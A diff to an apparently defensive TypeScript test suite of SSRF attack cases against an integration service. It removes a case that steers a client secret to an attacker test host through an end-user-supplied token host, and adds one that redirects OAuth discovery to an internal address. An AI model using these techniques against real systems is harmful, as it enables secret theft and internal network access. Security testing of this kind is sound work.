@@ -1,7 +1,7 @@
 import { setTimeout as sleep } from 'node:timers/promises';
 import { privateUrls } from '../protocol/private-hosts.ts';
 import { type Attack, stopped, succeeded, type Verdict } from './attack.ts';
-import { freshConnection } from './queues.ts';
+import { freshConnection } from './queue-poisoning.ts';
 import type { Stage } from './stage.ts';
 import { loopback, nowhere, type Records } from './strict.ts';
 
@@ -156,29 +156,17 @@ export const ssrf: Attack[] = [
   byName('a name for a public address and one of the inside', [['addresses of the name']], { ...loopback, ...nowhere }),
   byName('a name that is public when it is checked and inside when it is called', [['checked is called']], nowhere, loopback),
   {
-    name: 'template host: whoever makes a connection names the host that is sent the client secret',
-    falls: [["host is the integration's"]],
+    name: 'SSRF by redirect: discovery is sent on to an address of the inside',
+    falls: [['no redirects followed']],
     async run(stage) {
-      const id = stage.fresh('self-hosted');
-      await stage.define(
-        JSON.stringify({
-          id,
-          name: 'Self-hosted',
-          inputs: { host: { label: 'Host', host: true, asked_of: 'end_user' } },
-          methods: { app: { grant: 'client_credentials', token_endpoint: 'http://{host}/token' } },
-        }),
-      );
-      const registration = { id, provider: id, client_id: 'app', client_secret: 'the-secret-of-the-app' };
-      await stage.root.call('POST', '/v1/integrations', { body: registration }).catch(() =>
-        // The host has to be said here.
-        stage.root.call('POST', '/v1/integrations', { body: { ...registration, inputs: { host: 'login.acme.com' } } }),
-      );
-      stage.mislead(() => '');
-      const connect = await stage.clientWith(['connect']);
-      const inputs = { host: new URL(stage.evil.url).host };
-      const body = { integration: id, end_user: { id: stage.fresh('attacker') }, grant: 'client_credentials', inputs };
-      await connect.call('POST', '/v1/connections', { body }).catch(() => {});
-      return stage.captured.length > 0 ? succeeded('the client secret went to the host of the attacker') : stopped('nothing went there');
+      const target = stage.fresh('/inside');
+      stage.serve(target, { body: '{}' });
+      for (const status of [301, 302, 303, 307, 308]) {
+        const answer = { status, headers: { location: `${stage.evil.url}${target}` } };
+        for (const name of ['oauth-authorization-server', 'openid-configuration']) stage.serve(`/.well-known/${name}`, answer);
+        await stage.root.call('POST', '/v1/providers/discover', { body: { issuer: stage.evil.url } }).catch(() => {});
+      }
+      return stage.hits(target) > 0 ? succeeded(`${stage.hits(target)} requests arrived there`) : stopped('nothing arrived there');
     },
   },
 ];
